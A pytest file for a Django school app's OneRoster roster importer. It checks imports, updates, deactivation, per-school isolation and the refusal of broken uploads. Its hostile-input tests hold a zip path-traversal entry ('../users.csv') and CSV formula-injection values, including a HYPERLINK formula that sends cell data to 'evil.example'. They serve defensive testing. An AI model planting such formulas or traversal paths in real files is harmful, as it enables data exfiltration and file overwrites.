"""Rosters in from OneRoster (1.1 and 1.2): every fixture imports (or reports its faults
precisely), the same file twice changes nothing, a changed file updates, tobedeleted rows
deactivate, take out or archive without deleting, a broken or hostile upload changes nothing,
other schools are never touched, only school admins may import, and 600 students take
seconds in a bounded number of queries."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import date
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.timezone import now

from masterymap.accounts.models import Classroom, Enrollment, School, User
from masterymap.evidence.models import Evidence
from masterymap.exchange import registry
from masterymap.exchange.importers import Source
from masterymap.exchange.models import Job
from masterymap.exchange.plan import Plan, Refused
from masterymap.exchange.roster_import import (
    ROSTER_IMPORTER,
    RosterOptionsForm,
    allocate_usernames,
    apply_roster,
    plan_roster,
)
from masterymap.exchange.tests.fixtures import fixture_path
from masterymap.standards.models import MasteryMap
from masterymap.test import SchoolData, build_school, make_user

LEPO = ("oneroster", "lepo-rosterhub-v1p1-en")
LEPO_FILES = (
    "manifest.csv",
    "orgs.csv",
    "academicSessions.csv",
    "courses.csv",
    "classes.csv",
    "users.csv",
    "enrollments.csv",
)
CATALYST = ("oneroster", "catalyst-moodle")
TeacherLink = Classroom.teachers.through


@pytest.fixture
def data(db: Any) -> SchoolData:
    return build_school()


# --- helpers ---------------------------------------------------------------------------------


def _zip(files: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return buffer.getvalue()


def _lepo_loose() -> dict[str, bytes]:
    return {name: fixture_path(*LEPO, name).read_bytes() for name in LEPO_FILES}


def _members(*parts: str) -> dict[str, bytes]:
    archive = zipfile.ZipFile(fixture_path(*parts))
    return {n: archive.read(n) for n in archive.namelist() if not n.endswith("/")}


def _edit(content: bytes, edit: Any) -> bytes:
    """A CSV file with `edit(rows)` applied to its rows (header first), written back."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    edit(rows)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def _source(user: User, data: bytes, filename: str = "roster.zip", **options: Any) -> Source:
    return Source(user=user, data=data, filename=filename, options=options)


def _options(data: SchoolData, **extra: Any) -> dict[str, Any]:
    return {"mastery_map": data.grade7.pk, **extra}


def _plan(data: SchoolData, content: bytes, filename: str = "roster.zip", **extra: Any) -> Plan:
    return plan_roster(_source(data.ada, content, filename, **_options(data, **extra)))


def _apply(user: User, content: bytes, filename: str = "roster.zip", **options: Any) -> Plan:
    """As the job runner does: one transaction, rolled back when the plan is refused."""
    source = _source(user, content, filename, **options)
    with transaction.atomic():
        plan = apply_roster(source)
        if plan.refused(all_or_nothing=bool(options.get("all_or_nothing"))):
            raise Refused(plan)
    return plan


def _import(data: SchoolData, content: bytes, filename: str = "roster.zip", **extra: Any) -> Plan:
    return _apply(data.ada, content, filename, **_options(data, **extra))


def _counts(plan: Plan) -> dict[str, dict[str, int]]:
    return {what: {a: n for a, n in counts.items() if n} for what, counts in plan.counts()}


def _problems(plan: Plan) -> list[tuple[str, str]]:
    return [(p.where, p.message) for p in plan.problems]


def _snapshot() -> tuple[Any, ...]:
    """Everything a roster import could change."""
    return (
        sorted(
            User.objects.values_list(
                "username",
                "first_name",
                "last_name",
                "is_active",
                "role",
                "school_id",
                "sourced_id",
            )
        ),
        sorted(Classroom.objects.values_list("name", "archived_at", "sourced_id", "school_id")),
        sorted(Enrollment.objects.values_list("classroom_id", "student_id")),
        sorted(TeacherLink.objects.values_list("classroom_id", "user_id")),
        sorted(School.objects.values_list("name", "sourced_id")),
    )


def _from_file(school: School) -> Any:
    return User.objects.filter(school=school).exclude(sourced_id="")


# --- the lepo roster (1.1): loose files and their zip -----------------------------------------


def test_the_lepo_loose_files_import_students_classes_and_enrolments(data: SchoolData) -> None:
    loose = _zip(_lepo_loose())
    before = _snapshot()
    preview = _plan(data, loose)
    assert _snapshot() == before  # a preview writes nothing
    assert _counts(preview) == {
        "School": {"update": 1},
        "Student": {"create": 20},
        "Class": {"create": 5},
        "Student in a class": {"create": 25},
    }
    assert _problems(preview) == [
        (
            "manifest.csv, line 10",
            "“fiel.demographics” is not a manifest property: did you mean "
            "“file.demographics”? It is ignored.",
        ),
        *[
            (
                f"enrollments.csv, line {n + 1} (en000{n})",
                f"{'GN 01 FN 01' if n < 5 else 'GN 02 FN 02'} is a student, but this "
                f"enrolment makes them a teacher of {name}: skipped. Correct the role in one "
                "of the files.",
            )
            for n, name in [
                (1, "Introduction to Information Processing (C401)"),
                (2, "Introduction to Information Processing (C402)"),
                (3, "Advanced Information Systems"),
                (4, "Introduction to Information Processing (C404)"),
                (5, "Introduction to Information Processing (C405)"),
            ]
        ],
    ]
    assert preview.facts["version"] == "1.1" and preview.facts["school_org"] == "or0001"
    assert preview.facts["schools"] == [
        {
            "sourced_id": "or0001",
            "name": "Sample School",
            "type": "school",
            "label": "Sample School (or0001)",
        }
    ]

    plan = _import(data, loose)
    students = _from_file(data.school)
    assert students.count() == 20
    assert all(s.is_student and not s.has_usable_password() for s in students)
    assert sorted(students.values_list("username", flat=True))[:2] == ["user01", "user02"]
    assert students.get(sourced_id="us0007").get_full_name() == "GN 07 FN 07"
    classes = Classroom.objects.filter(school=data.school).exclude(sourced_id="")
    assert sorted(classes.values_list("name", flat=True)) == [
        "Advanced Information Systems",
        "Introduction to Information Processing (C401)",
        "Introduction to Information Processing (C402)",
        "Introduction to Information Processing (C404)",
        "Introduction to Information Processing (C405)",
    ]
    assert {c.mastery_map_id for c in classes} == {data.grade7.pk}
    assert Enrollment.objects.filter(classroom__in=classes).count() == 25
    assert School.objects.get(pk=data.school.pk).sourced_id == "or0001"
    advanced = classes.get(sourced_id="cl0003")
    assert [c for c in plan.facts["login_cards"] if c["classroom"] == advanced.pk] == [
        {
            "classroom": advanced.pk,
            "name": "Advanced Information Systems",
            "url": reverse("accounts:roster", args=[advanced.pk]),
            "new_students": 7,
        }
    ]
    assert sum(c["new_students"] for c in plan.facts["login_cards"]) == 25
    # us0001 and us0002 are only enrolled as teachers, which they are not: in no class.
    assert plan.facts["new_teachers"] == [] and plan.facts["new_students_without_class"] == 2
    assert [s["url"] for s in plan.facts["next"]] == [
        *[c["url"] for c in plan.facts["login_cards"]],
        reverse("people:page") + "?role=student",
    ]
    assert "Print login cards for the 7 new students of Advanced Information Systems" in [
        s["label"] for s in plan.facts["next"]
    ]

    # The same files again: nothing to change.
    after = _snapshot()
    again = _plan(data, loose)
    assert not again.writes
    assert {a for counts in _counts(again).values() for a in counts} == {"skip"}
    assert again.facts["login_cards"] == []
    _import(data, loose)
    assert _snapshot() == after


def test_the_lepo_zip_reads_as_its_loose_files_do(data: SchoolData) -> None:
    packed = _plan(data, fixture_path(*LEPO, "oneroster.zip").read_bytes())
    loose = _plan(data, _zip(_lepo_loose()))
    assert packed.changes == loose.changes and packed.problems == loose.problems


def test_a_changed_name_and_title_update_and_new_rows_are_added(data: SchoolData) -> None:
    files = _lepo_loose()
    _import(data, _zip(files))

    def users(rows: list[list[str]]) -> None:
        rows[3][8] = "Gina"  # us0003's givenName
        rows.append(["us0021", "", "", "true", "or0001", "student", "user21", "", "Nova", "Ray"])

    def classes(rows: list[list[str]]) -> None:
        rows[3][3] = "Advanced Systems"  # cl0003's title

    def enrollments(rows: list[list[str]]) -> None:
        rows.append(["en0031", "", "", "cl0003", "or0001", "us0021", "student", "false", "", ""])

    files["users.csv"] = _edit(files["users.csv"], users)
    files["classes.csv"] = _edit(files["classes.csv"], classes)
    files["enrollments.csv"] = _edit(files["enrollments.csv"], enrollments)
    plan = _import(data, _zip(files))
    counts = _counts(plan)
    assert counts["Student"] == {"create": 1, "update": 1, "skip": 19}
    assert counts["Class"] == {"update": 1, "skip": 4}
    assert counts["Student in a class"] == {"create": 1, "skip": 25}
    assert ("update", "Gina FN 03", "Changes: first name (was GN 03 FN 03).") in [
        (c.action, c.label, c.detail) for c in plan.changes
    ]
    assert User.objects.get(sourced_id="us0003").first_name == "Gina"
    advanced = Classroom.objects.get(sourced_id="cl0003")
    assert advanced.name == "Advanced Systems"
    assert advanced.enrollments.filter(student__sourced_id="us0021").exists()
    assert plan.facts["login_cards"] == [
        {
            "classroom": advanced.pk,
            "name": "Advanced Systems",
            "url": reverse("accounts:roster", args=[advanced.pk]),
            "new_students": 1,
        }
    ]


# --- the catalyst fixtures ----------------------------------------------------------------------


FULL_PROBLEMS = [
    (
        "orgs.csv, line 2 (org-sch-222-456)",
        "The parent org org-sch-222-3456 is not in orgs.csv: ignored (only your school's own "
        "org is used).",
    ),
    (
        "classes.csv, line 2 (cls-222-123456)",
        "The course crs-222-2023-456-12345 cannot be looked up: the upload has no courses.csv. "
        "The class is imported, named by its own title.",
    ),
    (
        "classes.csv, line 3 (cls-222-123478)",
        "The course crs-222-2023-456-23456 cannot be looked up: the upload has no courses.csv. "
        "The class is imported, named by its own title.",
    ),
    (
        "enrollments.csv, line 3 (enr-s-222-12345-987654)",
        "Jim Smith is a teacher, but this enrolment makes them a student of Introduction to "
        "Physics: skipped. Correct the role in one of the files.",
    ),
]


def test_the_catalyst_full_data_set_imports_what_is_sound(data: SchoolData) -> None:
    content = fixture_path(*CATALYST, "Test_full_data_set.zip").read_bytes()
    plan = _import(data, content)
    assert _counts(plan) == {
        "School": {"update": 1},
        "Teacher": {"create": 2},
        "Student": {"create": 3},
        "Other person": {"skip": 1},
        "Class": {"create": 1, "skip": 1},
        "Teacher of a class": {"create": 1, "skip": 1},
        "Student in a class": {"create": 1, "skip": 2},
    }
    assert _problems(plan) == FULL_PROBLEMS
    skipped = {c.label: c.detail for c in plan.changes if c.action == "skip"}
    assert skipped["Thomas Jones"] == "Role “parent”: only students and teachers get accounts."
    assert skipped["History - 2"] == "Marked tobedeleted in the file and not here: not created."
    john = User.objects.get(school=data.school, sourced_id="usr-222-123456")
    assert (john.username, john.role, john.has_usable_password()) == ("john.doe", "teacher", False)
    physics = Classroom.objects.get(sourced_id="cls-222-123456")
    assert list(physics.teachers.all()) == [john]
    assert [e.student.username for e in physics.enrollments.all()] == ["mmichel.jones"]
    assert not Classroom.objects.filter(sourced_id="cls-222-123478").exists()
    assert not User.objects.filter(username="thomas.joness").exists()
    assert School.objects.get(pk=data.school.pk).sourced_id == "org-sch-222-456"
    assert [t["username"] for t in plan.facts["new_teachers"]] == ["john.doe", "jim.smith"]
    assert plan.facts["new_students_without_class"] == 2  # Mary and Anna
    assert [s["url"] for s in plan.facts["next"]] == [
        reverse("accounts:roster", args=[physics.pk]),
        reverse("people:page") + "?role=teacher",
        reverse("people:page") + "?role=student",
    ]
    again = _plan(data, content)
    assert not again.writes and _problems(again) == FULL_PROBLEMS


def test_the_minimal_data_set_imports_with_only_the_required_columns(data: SchoolData) -> None:
    content = fixture_path(*CATALYST, "Test_minimal_data_set.zip").read_bytes()
    plan = _import(data, content)
    # No status anywhere: every row is active, so History - 2 is made too.
    assert _counts(plan) == {
        "School": {"update": 1},
        "Teacher": {"create": 2},
        "Student": {"create": 3},
        "Other person": {"skip": 1},
        "Class": {"create": 2},
        "Teacher of a class": {"create": 2},
        "Student in a class": {"create": 2},
    }
    assert _problems(plan) == [
        *FULL_PROBLEMS[1:],
        (
            "enrollments.csv, line 6 (enr-s-222-12345-987532)",
            "Jim Smith is a teacher, but this enrolment makes them a student of History - 2: "
            "skipped. Correct the role in one of the files.",
        ),
    ]
    assert not _plan(data, content).writes


def test_the_minimal_data_set_after_the_full_one_finds_its_users_here(data: SchoolData) -> None:
    _import(data, fixture_path(*CATALYST, "Test_full_data_set.zip").read_bytes())
    plan = _import(data, fixture_path(*CATALYST, "Test_minimal_data_set.zip").read_bytes())
    assert not [p for p in _problems(plan) if "neither in users.csv" in p[1]]
    assert _counts(plan)["Class"] == {"create": 1, "skip": 1}  # History - 2 is active here
    history = Classroom.objects.get(sourced_id="cls-222-123478")
    assert [e.student.username for e in history.enrollments.all()] == ["mmichel.jones"]
    # The teachers and students it does not list are left as they are.
    assert _from_file(data.school).count() == 5


def test_tobedeleted_rows_deactivate_take_out_and_archive_and_delete_nothing(
    data: SchoolData,
) -> None:
    files = _members(*CATALYST, "Test_full_data_set.zip")
    _import(data, _zip(files))
    mmichel = User.objects.get(username="mmichel.jones")
    physics = Classroom.objects.get(sourced_id="cls-222-123456")
    evidence = Evidence.objects.create(
        student=mmichel,
        standard=data.s1,
        kind="product",
        level=3,
        assessed_on=date(2025, 1, 6),
        recorded_at=now(),
    )

    def gone(sourced_id: str) -> Any:
        def edit(rows: list[list[str]]) -> None:
            for row in rows:
                if row[0] == sourced_id:
                    row[1] = "tobedeleted"

        return edit

    files["users.csv"] = _edit(files["users.csv"], gone("usr-222-1234561232"))
    files["enrollments.csv"] = _edit(
        _edit(files["enrollments.csv"], gone("enr-s-222-12345-987655")),
        gone("enr-t-222-12345-123456"),
    )
    plan = _import(data, _zip(files))
    removed = [(c.what, c.label, c.detail) for c in plan.changes if c.action == "delete"]
    assert removed == [
        (
            "Student",
            "mmichel Jones",
            "Deactivated (marked tobedeleted): they can no longer log in; their work and "
            "classes stay. The People page reactivates them.",
        ),
        (
            "Teacher of a class",
            "John Doe → Introduction to Physics",
            "No longer a teacher of this class (marked tobedeleted).",
        ),
        (
            "Student in a class",
            "mmichel Jones → Introduction to Physics",
            "Taken out of the class (marked tobedeleted): their evidence and the class's "
            "history stay.",
        ),
    ]
    mmichel.refresh_from_db()
    assert not mmichel.is_active  # the row stays, deactivated
    assert not physics.enrollments.exists() and not physics.teachers.exists()
    assert Evidence.objects.filter(pk=evidence.pk).exists()
    # The same file again: already done.
    again = _plan(data, _zip(files))
    assert not again.writes

    files["classes.csv"] = _edit(files["classes.csv"], gone("cls-222-123456"))
    archived = _import(data, _zip(files))
    assert [(c.what, c.label) for c in archived.changes if c.action == "delete"] == [
        ("Class", "Introduction to Physics")
    ]
    physics.refresh_from_db()
    assert physics.is_archived and Classroom.objects.filter(pk=physics.pk).exists()
    assert not _plan(data, _zip(files)).writes


def test_the_1_2_delta_file_applies_its_rows_and_removes_nothing_it_leaves_out(
    data: SchoolData,
) -> None:
    files = _members(*CATALYST, "oneroster_test_data.zip")
    plan = _import(data, _zip(files))
    assert (plan.facts["version"], plan.facts["delta"]) == ("1.2", True)
    assert plan.facts["not_used"] == ["demographics.csv", "userProfiles.csv"]
    assert _counts(plan) == {
        "School": {"update": 1},
        "Student": {"create": 1},
        "Class": {"create": 1},
        "Student in a class": {"create": 1},
    }
    assert plan.problems == []
    created = {(c.what, c.label): c.detail for c in plan.changes}
    assert created[("Class", "Basic Detection")] == "course Crime Fighting 101 · Semester 1"
    bruce = User.objects.get(sourced_id="USER_0")
    assert (bruce.username, bruce.get_full_name()) == ("brucewayne", "Bruce Wayne")
    detection = Classroom.objects.get(sourced_id="CLASS_001")
    assert plan.facts["login_cards"] == [
        {
            "classroom": detection.pk,
            "name": "Basic Detection",
            "url": reverse("accounts:roster", args=[detection.pk]),
            "new_students": 1,
        }
    ]
    assert not _plan(data, _zip(files)).writes

    # The next delta lists only a newcomer: Bruce and his class stay as they are.
    def newcomer(rows: list[list[str]]) -> None:
        rows[1][0], rows[1][4], rows[1][6], rows[1][7] = "USER_1", "dick", "Dick", "Grayson"

    def role(rows: list[list[str]]) -> None:
        rows[1][0], rows[1][3] = "ROLE_9", "USER_1"

    def enrol(rows: list[list[str]]) -> None:
        rows[1][0], rows[1][5] = "ENROLLMENT_002", "USER_1"

    delta = {
        "manifest.csv": files["manifest.csv"],
        "orgs.csv": files["orgs.csv"],
        "users.csv": _edit(files["users.csv"], newcomer),
        "roles.csv": _edit(files["roles.csv"], role),
        "classes.csv": files["classes.csv"],
        "enrollments.csv": _edit(files["enrollments.csv"], enrol),
    }
    manifest = files["manifest.csv"].replace(b"file.courses,delta", b"file.courses,absent")
    manifest = manifest.replace(b"file.academicSessions,delta", b"file.academicSessions,absent")
    delta["manifest.csv"] = manifest
    next_plan = _import(data, _zip(delta))
    assert _counts(next_plan)["Student"] == {"create": 1}
    assert _counts(next_plan)["Student in a class"] == {"create": 1}
    assert detection.enrollments.count() == 2
    bruce.refresh_from_db()
    assert bruce.is_active


def test_the_broken_v1p2_data_set_reports_its_faults_precisely_and_imports_the_rest(
    data: SchoolData,
) -> None:
    content = fixture_path(*CATALYST, "v1p2_full_dataset.zip").read_bytes()
    plan = _import(data, content)
    date_problem = (
        "The dateLastModified “{}” is not a date in the form 2023-05-01 (ISO 8601): ignored; "
        "the row is imported."
    )
    assert _problems(plan) == [
        *[
            (
                f"manifest.csv, line {line}",
                f"file.{name} has no value (bulk, delta or absent): taken as absent.",
            )
            for line, name in [(21, "scoreScales"), (22, "userProfiles"), (23, "userResources")]
        ],
        FULL_PROBLEMS[0],
        *[
            (
                "users.csv",
                f"The column “preffered{part}Name” is not a OneRoster column: did you mean "
                f"“preferred{part}Name”? It is ignored.",
            )
            for part in ("Given", "Middle", "Family")
        ],
        ("users.csv, line 2 (usr-222-123456)", date_problem.format("1/05/2023")),
        ("users.csv, line 4 (usr-222-1234561)", date_problem.format("1/05/2023")),
        ("users.csv, line 5 (usr-222-987654)", date_problem.format("1/05/2023")),
        ("users.csv, line 6 (usr-222-1234561232)", date_problem.format("1/05/2023")),
        ("users.csv, line 7 (usr-222-567891)", date_problem.format("15/06/2023")),
        (
            "roles.csv",
            "The column “dataLastModified” is not a OneRoster column: did you mean "
            "“dateLastModified”? It is ignored.",
        ),
        (
            "roles.csv",
            "The header row names 11 columns, 2 of them without a name: those are ignored.",
        ),
        *FULL_PROBLEMS[1:],
    ]
    assert plan.facts["not_used"] == ["userprofiles.csv"]
    assert _counts(plan) == {
        "School": {"update": 1},
        "Teacher": {"create": 2},
        "Student": {"create": 3},
        "Other person": {"skip": 1},
        "Class": {"create": 1, "skip": 1},
        "Teacher of a class": {"create": 1, "skip": 1},
        "Student in a class": {"create": 1, "skip": 2},
    }
    skipped = {c.label: c.detail for c in plan.changes if c.action == "skip"}
    assert skipped["Thomas Jones"] == (
        "Role “siteAdministrator”: only students and teachers get accounts."
    )
    # The misspelt preferred names are not read: Mary keeps her given name.
    assert User.objects.get(sourced_id="usr-222-66778899").first_name == "Mary"
    assert not _plan(data, content).writes


# --- hostile and broken uploads --------------------------------------------------------------


def _lepo_with(**changes: bytes | None) -> bytes:
    files: dict[str, bytes | str] = dict(_lepo_loose())
    for name, content in changes.items():
        path = name.replace("_", ".")
        if content is None:
            del files[path]
        else:
            files[path] = content
    return _zip(files)


def _truncated() -> bytes:
    whole = fixture_path(*LEPO, "oneroster.zip").read_bytes()
    return whole[: len(whole) // 2]


def _latin1_users() -> bytes:
    text = fixture_path(*LEPO, "users.csv").read_text(encoding="utf-8")
    return text.replace("GN 03", "José").encode("latin-1")


@pytest.mark.parametrize(
    ("make", "filename", "where", "message"),
    [
        (
            lambda: b"PK\x03\x04" + b"\x00garbage" * 50,
            "roster.zip",
            "roster.zip",
            "This zip file is damaged or is not a zip file.",
        ),
        (_truncated, "roster.zip", "roster.zip", "This zip file is damaged or is not a zip file."),
        (
            lambda: _zip({"../users.csv": "sourcedId,givenName\nu1,Ana\n"}),
            "roster.zip",
            "roster.zip",
            "This zip file has a path outside itself: ../users.csv",
        ),
        (
            lambda: _lepo_with(users_csv=_latin1_users()),
            "roster.zip",
            "users.csv",
            "This file is not UTF-8 text (the first unreadable byte is on line 4). In Excel "
            "choose Save As, “CSV UTF-8”; in Google Sheets, File, Download, CSV.",
        ),
        (
            lambda: _lepo_with(users_csv=None),
            "roster.zip",
            "manifest.csv",
            "The manifest lists users.csv (bulk), but the upload does not have it: add it "
            "(choose all the roster's files at once, or upload the zip).",
        ),
        (
            lambda: _lepo_with(users_csv=b"sourcedId,familyName\nus0001,FN\n"),
            "roster.zip",
            "users.csv",
            "This file lacks the columns givenName that OneRoster requires: nothing can be "
            "read from it.",
        ),
        (
            lambda: _zip({"a/users.csv": "sourcedId,givenName\n", "b/Users.csv": "x\n"}),
            "roster.zip",
            "roster.zip",
            "The upload has two users.csv files (a/users.csv, b/Users.csv): keep one.",
        ),
        (
            lambda: _zip({"notes.txt": "hello", "orgs.csv": "sourcedId,name,type\n"}),
            "roster.zip",
            "roster.zip",
            "This is not a OneRoster roster: it has no users.csv, classes.csv or "
            "enrollments.csv (it has: notes.txt, orgs.csv).",
        ),
        (
            lambda: b"unit,code,statement\nRatios,7.RP.A.1,Unit rates\n",
            "standards.csv",
            "standards.csv",
            "This CSV file is not one of OneRoster's files (users.csv, classes.csv, "
            "enrollments.csv…): its columns are not theirs. Upload the roster's zip, or all "
            "its CSV files at once.",
        ),
        (
            lambda: fixture_path(*LEPO, "orgs.csv").read_bytes(),
            "orgs.csv",
            "orgs.csv",
            "orgs.csv alone imports nothing: upload the whole roster (its zip, or all its CSV "
            "files at once).",
        ),
        (
            lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
            "photo.csv",
            "photo.csv",
            "This file is not UTF-8 text (the first unreadable byte is on line 1). In Excel "
            "choose Save As, “CSV UTF-8”; in Google Sheets, File, Download, CSV.",
        ),
        (
            lambda: b"sourcedId,givenName\nu1,Ana,extra,cells\n",
            "users.csv",
            "users.csv, line 2",
            "This row has 4 cells but the header names 2 columns.",
        ),
    ],
)
def test_a_broken_or_hostile_upload_is_refused_and_changes_nothing(
    data: SchoolData, make: Any, filename: str, where: str, message: str
) -> None:
    content = make()
    before = _snapshot()
    preview = _plan(data, content, filename)
    assert preview.fatal
    assert [(p.where, p.message) for p in preview.problems if p.fatal] == [(where, message)]
    with pytest.raises(Refused):
        _import(data, content, filename)
    assert _snapshot() == before


def test_a_zip_without_a_manifest_or_users_resolves_enrolments_against_the_school(
    data: SchoolData,
) -> None:
    _import(data, _zip(_lepo_loose()))
    files = _lepo_loose()
    del files["manifest.csv"], files["users.csv"]
    files["enrollments.csv"] += (
        b'"en0032","","","cl0003","or0001","us0999","student","false","",""\n'
        b'"en0033","","","cl0999","or0001","us0003","student","false","",""\n'
    )
    plan = _import(data, _zip(files))
    assert plan.facts["version"] == ""
    assert _counts(plan)["Student in a class"] == {"skip": 25}
    assert _problems(plan)[-2:] == [
        (
            "enrollments.csv, line 32 (en0032)",
            "The user us0999 is neither in users.csv nor already here: skipped.",
        ),
        (
            "enrollments.csv, line 33 (en0033)",
            "The class cl0999 is neither in classes.csv nor already here: skipped.",
        ),
    ]


def test_a_single_users_file_makes_accounts_and_says_what_it_lacks(data: SchoolData) -> None:
    plan = _import(data, fixture_path(*LEPO, "users.csv").read_bytes(), "users.csv")
    assert _counts(plan) == {"School": {"update": 1}, "Student": {"create": 20}}
    assert _problems(plan)[0] == (
        "users.csv",
        "Only this file was read: the roster's other files (manifest.csv, orgs.csv, "
        "classes.csv, enrollments.csv) were not uploaded, so what they hold is not imported. "
        "To import everything, upload the zip, or choose all the CSV files at once.",
    )
    assert plan.facts["new_students_without_class"] == 20


def test_a_formula_in_a_name_is_stored_as_text(data: SchoolData) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    users = (
        "sourcedId,status,role,username,givenName,familyName\r\n"
        f'u1,active,student,,"{formula.replace(chr(34), chr(34) * 2)}",+1-555\r\n'
        "u2,active,student,@cmd,Ana,-López\r\n"
    ).encode()
    plan = _import(data, users, "users.csv")
    first = User.objects.get(school=data.school, sourced_id="u1")
    assert (first.first_name, first.last_name) == (formula, "+1-555")
    # No username in the file: one made from the name, of letters, digits and dots only.
    assert first.username == "hyperlinkhttpevil.examplea1cli"
    second = User.objects.get(school=data.school, sourced_id="u2")
    assert (second.username, second.last_name) == ("@cmd", "-López")
    assert f"{formula} +1-555" in [c.label for c in plan.changes]


# --- usernames, other schools, several schools ---------------------------------------------------


def test_a_taken_username_gets_a_number_and_the_local_account_is_left_alone(
    data: SchoolData,
) -> None:
    local = make_user("john.doe", User.Role.TEACHER, data.school, first_name="Local")
    make_user("Jim.Smith", User.Role.STUDENT, data.school)
    make_user("jim.smith2", User.Role.STUDENT, data.school)
    plan = _import(data, fixture_path(*CATALYST, "Test_full_data_set.zip").read_bytes())
    assert [p for p in _problems(plan) if "taken" in p[1]] == [
        (
            "users.csv, line 2 (usr-222-123456)",
            "The username john.doe is taken by another account: John Doe gets john.doe2 instead.",
        ),
        (
            "users.csv, line 5 (usr-222-987654)",
            "The username jim.smith is taken by another account: Jim Smith gets jim.smith3 "
            "instead.",
        ),
    ]
    assert User.objects.get(sourced_id="usr-222-123456").username == "john.doe2"
    local.refresh_from_db()
    assert (local.first_name, local.sourced_id) == ("Local", "")
    # Matched by sourcedId next time: no new username, no problem.
    assert not [
        p
        for p in _problems(
            _plan(data, fixture_path(*CATALYST, "Test_full_data_set.zip").read_bytes())
        )
        if "taken" in p[1]
    ]


@pytest.mark.parametrize(
    ("wanted", "taken", "given"),
    [
        (["kim", "lee"], [], ["kim", "lee"]),
        (["kim", "KIM"], [], ["kim", "KIM2"]),
        (["kim"], ["Kim", "kim2"], ["kim3"]),
        (["user01", "user01"], ["user01", "user01-2"], ["user01-3", "user01-4"]),
    ],
)
def test_usernames_are_unique_install_wide_in_any_case(
    data: SchoolData, wanted: list[str], taken: list[str], given: list[str]
) -> None:
    hilltop = School.objects.get(name="Hilltop")
    for username in taken:
        make_user(username, User.Role.STUDENT, hilltop)
    assert allocate_usernames(wanted) == given


def test_another_schools_import_of_the_same_file_touches_nothing_of_ours(
    data: SchoolData,
) -> None:
    loose = _zip(_lepo_loose())
    _import(data, loose)
    ours = _snapshot()
    hilltop = School.objects.get(name="Hilltop")
    their_map = MasteryMap.objects.create(school=hilltop, title="Hilltop map", created_by=data.zed)
    plan = _apply(data.zed, loose, mastery_map=their_map.pk)
    assert _counts(plan)["Student"] == {"create": 20}
    assert (
        "users.csv, line 2 (us0001)",
        "The username user01 is taken by another account: GN 01 FN 01 gets user01-2 instead.",
    ) in _problems(plan)
    theirs = _from_file(hilltop)
    assert theirs.count() == 20 and not theirs.filter(username="user01").exists()
    assert Classroom.objects.filter(school=hilltop).count() == 5
    # Lakeside's rows are exactly as they were (Hilltop's are new rows beside them).
    lakeside = _snapshot()
    assert [u for u in lakeside[0] if u[5] == data.school.pk] == [
        u for u in ours[0] if u[5] == data.school.pk
    ]
    assert [c for c in lakeside[1] if c[3] == data.school.pk] == [
        c for c in ours[1] if c[3] == data.school.pk
    ]


TWO_SCHOOLS = {
    "manifest.csv": "propertyName,value\noneroster.version,1.1\nfile.orgs,bulk\nfile.users,bulk\n"
    "file.classes,bulk\nfile.enrollments,bulk\n",
    "orgs.csv": "sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\n"
    "d1,,,District,district,,\ns1,,,North,school,,d1\ns2,,,South,school,,d1\n",
    "users.csv": "sourcedId,status,orgSourcedIds,role,username,givenName,familyName\n"
    "n1,,s1,student,n.one,Nia,One\nn2,,s1,teacher,n.two,Ned,Two\n"
    "x1,,s2,student,x.one,Xia,One\nx2,,s2,student,x.two,Xan,Two\n",
    "classes.csv": "sourcedId,status,title,classCode,schoolSourcedId\n"
    "nc,,Algebra,A1,s1\nxc,,Geometry,G1,s2\n",
    "enrollments.csv": "sourcedId,status,classSourcedId,schoolSourcedId,userSourcedId,role\n"
    "e1,,nc,s1,n1,student\ne2,,nc,s1,n2,teacher\ne3,,xc,s2,x1,student\ne4,,xc,s2,x2,student\n",
}


def test_a_file_of_several_schools_asks_which_is_ours_then_imports_only_its_rows(
    data: SchoolData,
) -> None:
    content = _zip(dict(TWO_SCHOOLS))
    before = _snapshot()
    asked = _plan(data, content)
    assert asked.fatal and _problems(asked) == [
        (
            "roster.zip",
            "The file holds several schools (North (s1), South (s2)): choose yours under “Your "
            "school in the file”, then preview again.",
        )
    ]
    assert asked.facts["schools"][1]["label"] == "South (s2)"
    with pytest.raises(Refused):
        _import(data, content)
    assert _snapshot() == before

    plan = _import(data, content, org="s1")
    assert _counts(plan) == {
        "School": {"update": 1},
        "Student": {"create": 1},
        "Teacher": {"create": 1},
        "Class": {"create": 1},
        "Student in a class": {"create": 1},
        "Teacher of a class": {"create": 1},
        "Another school's rows": {"skip": 3},
    }
    assert [(c.label, c.detail) for c in plan.changes if c.what == "Another school's rows"] == [
        ("classes.csv", "1 row belongs to another school of the file: skipped."),
        ("enrollments.csv", "2 rows belong to other schools of the file: skipped."),
        ("users.csv", "2 rows belong to other schools of the file: skipped."),
    ]
    assert not User.objects.filter(sourced_id__in=["x1", "x2"]).exists()
    # Linked now: the next import finds the school by itself.
    again = _plan(data, content)
    assert again.facts["school_pick"] == "linked" and not again.writes and not again.fatal
    gone = _plan(data, content, org="s9")
    assert _problems(gone) == [
        ("roster.zip", "The school chosen (s9) is not in this file: choose again.")
    ]


def test_new_classes_need_a_mastery_map_of_the_school(data: SchoolData) -> None:
    content = _zip(dict(TWO_SCHOOLS))
    unchosen = plan_roster(_source(data.ada, content, org="s1"))
    assert _problems(unchosen) == [
        (
            "roster.zip",
            "1 new class needs a mastery map: choose one under “Mastery map for new classes”, "
            "then preview again.",
        )
    ]
    data.grade7.archived_at = now()
    data.grade7.save()
    archived = _plan(data, content, org="s1")
    assert _problems(archived) == [
        (
            "roster.zip",
            "The mastery map chosen is not one of your school's maps any more: choose another.",
        )
    ]
    MasteryMap.objects.filter(school=data.school).update(archived_at=now())
    none = plan_roster(_source(data.ada, content, org="s1"))
    assert _problems(none)[0][1].startswith(
        "1 new class needs a mastery map, and your school has none yet"
    )


# --- who may import ---------------------------------------------------------------------------


